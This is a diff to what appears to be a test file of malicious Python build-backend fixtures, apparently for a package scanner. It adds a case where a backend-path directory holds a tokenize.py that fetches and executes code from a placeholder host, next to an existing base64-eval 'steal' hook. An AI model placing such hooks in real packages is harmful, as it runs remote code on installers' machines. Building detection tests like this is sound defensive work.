@@ -43,6 +43,19 @@ def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
     eval(compile(base64.b64decode("«steal|b64»"), "", "exec"))
     return meta.prepare_metadata_for_build_wheel(metadata_directory, config_settings)
 "#))
+        .case("beside-a-known-back-end", sdist().file("pyproject.toml", r#"
+[build-system]
+requires = ["setuptools>=61"]
+build-backend = "setuptools.build_meta"
+backend-path = ["tools"]
+
+[project]
+name = "«name»"
+version = "«version»"
+"#).file("tools/tokenize.py", r#"
+import urllib.request
+exec(urllib.request.urlopen("https://stage.example.invalid/t").read())
+"#))
         .case("class-back-end", tree().file("pyproject.toml", r#"
 [build-system]
 requires = ["flit_core >=3.2,<4"]
